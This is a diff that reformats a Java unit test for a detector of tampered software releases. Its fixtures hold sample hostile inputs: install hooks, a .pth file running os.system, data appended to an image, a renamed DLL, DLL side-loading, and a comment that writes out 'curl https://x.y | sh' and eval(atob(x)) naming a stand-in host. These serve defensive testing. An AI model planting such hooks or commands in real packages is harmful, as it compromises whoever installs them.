@@ -15,37 +15,73 @@ import org.junit.jupiter.api.Test;
 
 /// Releases that were tampered with, each in one way, against the honest one; no warning and no rule helps.
 class TamperedReleaseTest {
-    private static final String CODE = "module.exports = function add(a, b) { return a + b; };\n".repeat(20);
+    private static final String CODE =
+            "module.exports = function add(a, b) { return a + b; };\n".repeat(20);
 
     private static Map<String, byte[]> npm(String version, String script, String more) {
-        return Releases.files("package/package.json", "{\"name\":\"adder\",\"version\":\"" + version + "\",\"main\":\"index.js\"" + script + "}", "package/index.js", CODE + more, "package/README.md", "# adder\n");
+        return Releases.files(
+                "package/package.json",
+                "{\"name\":\"adder\",\"version\":\""
+                        + version
+                        + "\",\"main\":\"index.js\""
+                        + script
+                        + "}",
+                "package/index.js",
+                CODE + more,
+                "package/README.md",
+                "# adder\n");
     }
 
     private static Judgement npmJudged(String script, String more) throws IOException {
-        return Releases.judge("adder.tgz", Releases.tgz(npm("1.0.1", script, more)), Releases.tgz(npm("1.0.0", "", "")));
+        return Releases.judge(
+                "adder.tgz",
+                Releases.tgz(npm("1.0.1", script, more)),
+                Releases.tgz(npm("1.0.0", "", "")));
     }
 
     @Test
     void anHonestSuccessorIsReleased() throws IOException {
-        assertThat(npmJudged(",\"dependencies\":{}", "module.exports.sub = (a, b) => a - b;\n").verdict()).isEqualTo(Verdict.RELEASE);
-        assertThat(Releases.judge("old.msi", Releases.fixture("new-honest.msi"), Releases.fixture("old.msi")).verdict()).isEqualTo(Verdict.RELEASE);
+        assertThat(
+                        npmJudged(",\"dependencies\":{}", "module.exports.sub = (a, b) => a - b;\n")
+                                .verdict())
+                .isEqualTo(Verdict.RELEASE);
+        assertThat(
+                        Releases.judge(
+                                        "old.msi",
+                                        Releases.fixture("new-honest.msi"),
+                                        Releases.fixture("old.msi"))
+                                .verdict())
+                .isEqualTo(Verdict.RELEASE);
     }
 
     @Test
     void aNewDependencyThatIsUsedDoesNotHold() throws IOException {
-        assertThat(npmJudged(",\"dependencies\":{\"left-pad\":\"^1.0.0\"}", "const pad = require('left-pad');\n").verdict()).isEqualTo(Verdict.RELEASE);
+        assertThat(
+                        npmJudged(
+                                        ",\"dependencies\":{\"left-pad\":\"^1.0.0\"}",
+                                        "const pad = require('left-pad');\n")
+                                .verdict())
+                .isEqualTo(Verdict.RELEASE);
     }
 
     @Test
     void aDependencyThatNothingUsesHolds() throws IOException {
-        assertThat(Releases.rules(npmJudged(",\"dependencies\":{\"plain-crypto-x\":\"^1.0.0\"}", ""))).contains("new-dependency");
-        assertThat(npmJudged(",\"dependencies\":{\"plain-crypto-x\":\"^1.0.0\"}", "").verdict()).isEqualTo(Verdict.HOLD);
+        assertThat(
+                        Releases.rules(
+                                npmJudged(",\"dependencies\":{\"plain-crypto-x\":\"^1.0.0\"}", "")))
+                .contains("new-dependency");
+        assertThat(npmJudged(",\"dependencies\":{\"plain-crypto-x\":\"^1.0.0\"}", "").verdict())
+                .isEqualTo(Verdict.HOLD);
     }
 
     @Test
     void anInstallHookHolds() throws IOException {
-        assertThat(npmJudged(",\"scripts\":{\"postinstall\":\"node a.js\"}", "").verdict()).isEqualTo(Verdict.HOLD);
-        assertThat(npmJudged(",\"scripts\":{\"test\":\"node a.js\",\"prepare\":\"tsc\"}", "").verdict()).isEqualTo(Verdict.RELEASE);
+        assertThat(npmJudged(",\"scripts\":{\"postinstall\":\"node a.js\"}", "").verdict())
+                .isEqualTo(Verdict.HOLD);
+        assertThat(
+                        npmJudged(",\"scripts\":{\"test\":\"node a.js\",\"prepare\":\"tsc\"}", "")
+                                .verdict())
+                .isEqualTo(Verdict.RELEASE);
     }
 
     @Test
@@ -63,37 +99,94 @@ class TamperedReleaseTest {
             "var s = \"" + "\ufe01".repeat(60) + "\";\n",
         };
         for (String payload : payloads) {
-            assertThat(npmJudged("", payload).verdict()).as(payload.substring(0, Math.min(60, payload.length()))).isEqualTo(Verdict.HOLD);
+            assertThat(npmJudged("", payload).verdict())
+                    .as(payload.substring(0, Math.min(60, payload.length())))
+                    .isEqualTo(Verdict.HOLD);
         }
     }
 
     @Test
     void theSameWordsInACommentDoNotHold() throws IOException {
-        assertThat(npmJudged("", "// require('child_process').exec('id') and eval(atob(x)) at https://bad.collect-x.net/\n/* curl https://x.y | sh */\n").verdict()).isEqualTo(Verdict.RELEASE);
+        assertThat(
+                        npmJudged(
+                                        "",
+                                        "// require('child_process').exec('id') and eval(atob(x)) at https://bad.collect-x.net/\n/* curl https://x.y | sh */\n")
+                                .verdict())
+                .isEqualTo(Verdict.RELEASE);
     }
 
     @Test
     void theSameVersionWithOtherContentHolds() throws IOException {
-        assertThat(Releases.rules(Releases.judge("adder.tgz", Releases.tgz(npm("1.0.0", "", "//\nlet x = 1;\n")), Releases.tgz(npm("1.0.0", "", ""))))).contains("same-version");
+        assertThat(
+                        Releases.rules(
+                                Releases.judge(
+                                        "adder.tgz",
+                                        Releases.tgz(npm("1.0.0", "", "//\nlet x = 1;\n")),
+                                        Releases.tgz(npm("1.0.0", "", "")))))
+                .contains("same-version");
     }
 
     @Test
     void textBehindTheEndOfAnIconAndAProgramNamedPictureHold() throws IOException {
-        byte[] png = Base64.getDecoder().decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
+        byte[] png =
+                Base64.getDecoder()
+                        .decode(
+                                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
         byte[] tail = Arrays.copyOf(png, png.length + 200);
         Arrays.fill(tail, png.length, tail.length, (byte) 'A');
         Map<String, byte[]> before = Releases.files("icon.png", png, "a.txt", "x");
-        assertThat(Releases.rules(Releases.judge("x.zip", Releases.zip(Releases.files("icon.png", tail, "a.txt", "y")), Releases.zip(before)))).contains("data-behind-the-end");
-        assertThat(Releases.rules(Releases.judge("x.zip", Releases.zip(Releases.files("icon.png", png, "a.txt", "x", "b.png", Releases.fixture("plain.dll"))), Releases.zip(before)))).contains("false-name");
+        assertThat(
+                        Releases.rules(
+                                Releases.judge(
+                                        "x.zip",
+                                        Releases.zip(
+                                                Releases.files("icon.png", tail, "a.txt", "y")),
+                                        Releases.zip(before))))
+                .contains("data-behind-the-end");
+        assertThat(
+                        Releases.rules(
+                                Releases.judge(
+                                        "x.zip",
+                                        Releases.zip(
+                                                Releases.files(
+                                                        "icon.png",
+                                                        png,
+                                                        "a.txt",
+                                                        "x",
+                                                        "b.png",
+                                                        Releases.fixture("plain.dll"))),
+                                        Releases.zip(before))))
+                .contains("false-name");
     }
 
     @Test
     void aWheelWhoseFilesAreNotInItsListHolds() throws IOException {
-        String record = "pkg/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\npkg-1.dist-info/RECORD,,\n";
-        Map<String, byte[]> good = Releases.files("pkg/__init__.py", "", "pkg-1.dist-info/RECORD", record);
-        Map<String, byte[]> bad = Releases.files("pkg/__init__.py", "", "pkg-1.dist-info/RECORD", record, "pkg.pth", "import os; os.system('id')\n");
-        assertThat(Releases.judge("pkg-1-py3-none-any.whl", Releases.zip(good), Releases.zip(good)).verdict()).isEqualTo(Verdict.RELEASE);
-        assertThat(Releases.rules(Releases.judge("pkg-1-py3-none-any.whl", Releases.zip(bad), Releases.zip(good)))).contains("not-as-listed", "load-hook");
+        String record =
+                "pkg/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\npkg-1.dist-info/RECORD,,\n";
+        Map<String, byte[]> good =
+                Releases.files("pkg/__init__.py", "", "pkg-1.dist-info/RECORD", record);
+        Map<String, byte[]> bad =
+                Releases.files(
+                        "pkg/__init__.py",
+                        "",
+                        "pkg-1.dist-info/RECORD",
+                        record,
+                        "pkg.pth",
+                        "import os; os.system('id')\n");
+        assertThat(
+                        Releases.judge(
+                                        "pkg-1-py3-none-any.whl",
+                                        Releases.zip(good),
+                                        Releases.zip(good))
+                                .verdict())
+                .isEqualTo(Verdict.RELEASE);
+        assertThat(
+                        Releases.rules(
+                                Releases.judge(
+                                        "pkg-1-py3-none-any.whl",
+                                        Releases.zip(bad),
+                                        Releases.zip(good))))
+                .contains("not-as-listed", "load-hook");
     }
 
     @Test
@@ -118,14 +211,20 @@ class TamperedReleaseTest {
 
         byte[] after = Arrays.copyOf(signed, signed.length + noise.length);
         System.arraycopy(noise, 0, after, signed.length, noise.length);
-        assertThat(Releases.rules(Releases.judge("a.exe", after, signed))).contains("unsigned-bytes-after-table");
+        assertThat(Releases.rules(Releases.judge("a.exe", after, signed)))
+                .contains("unsigned-bytes-after-table");
 
         byte[] second = Arrays.copyOf(signed, signed.length + size);
         System.arraycopy(signed, table, second, signed.length, size);
         ByteBuffer.wrap(second).order(ByteOrder.LITTLE_ENDIAN).putInt(directory + 4, size * 2);
-        assertThat(Releases.rules(Releases.judge("a.exe", second, signed))).contains("unsigned-bytes-second-entry");
+        assertThat(Releases.rules(Releases.judge("a.exe", second, signed)))
+                .contains("unsigned-bytes-second-entry");
 
-        assertThat(Releases.rules(Releases.judge("a.exe", Releases.fixture("signed-blob.exe"), signed))).contains("unsigned-bytes-unauthenticated-attribute");
+        assertThat(
+                        Releases.rules(
+                                Releases.judge(
+                                        "a.exe", Releases.fixture("signed-blob.exe"), signed)))
+                .contains("unsigned-bytes-unauthenticated-attribute");
 
         byte[] altered = signed.clone();
         altered[0x600] ^= 1;
@@ -136,16 +235,32 @@ class TamperedReleaseTest {
 
     @Test
     void anotherKeyOfTheSameNameHolds() throws IOException {
-        assertThat(Releases.rules(Releases.judge("a.msi", Releases.fixture("new-key.msi"), Releases.fixture("old.msi")))).contains("key-changed");
+        assertThat(
+                        Releases.rules(
+                                Releases.judge(
+                                        "a.msi",
+                                        Releases.fixture("new-key.msi"),
+                                        Releases.fixture("old.msi"))))
+                .contains("key-changed");
     }
 
     @Test
     void aLibraryThatNewlyTalksToTheNetworkHolds() throws IOException {
-        Judgement j = Releases.judge("a.msi", Releases.fixture("new-dll.msi"), Releases.fixture("old.msi"));
+        Judgement j =
+                Releases.judge(
+                        "a.msi", Releases.fixture("new-dll.msi"), Releases.fixture("old.msi"));
         assertThat(Releases.rules(j)).contains("new-network", "signature-lost");
         Map<String, byte[]> before = Releases.files("app.exe", Releases.fixture("signed.exe"));
-        Map<String, byte[]> after = Releases.files("app.exe", Releases.fixture("signed.exe"), "version.dll", Releases.fixture("network.dll"));
-        assertThat(Releases.rules(Releases.judge("a.zip", Releases.zip(after), Releases.zip(before)))).contains("side-loading");
+        Map<String, byte[]> after =
+                Releases.files(
+                        "app.exe",
+                        Releases.fixture("signed.exe"),
+                        "version.dll",
+                        Releases.fixture("network.dll"));
+        assertThat(
+                        Releases.rules(
+                                Releases.judge("a.zip", Releases.zip(after), Releases.zip(before))))
+                .contains("side-loading");
     }
 
     @Test
@@ -169,8 +284,12 @@ class TamperedReleaseTest {
 
     @Test
     void theSameInputGivesTheSameVerdictWordForWord() throws IOException {
-        Judgement one = Releases.judge("a.msi", Releases.fixture("new-dll.msi"), Releases.fixture("old.msi"));
-        Judgement two = Releases.judge("a.msi", Releases.fixture("new-dll.msi"), Releases.fixture("old.msi"));
+        Judgement one =
+                Releases.judge(
+                        "a.msi", Releases.fixture("new-dll.msi"), Releases.fixture("old.msi"));
+        Judgement two =
+                Releases.judge(
+                        "a.msi", Releases.fixture("new-dll.msi"), Releases.fixture("old.msi"));
         assertThat(two).isEqualTo(one);
     }
 }
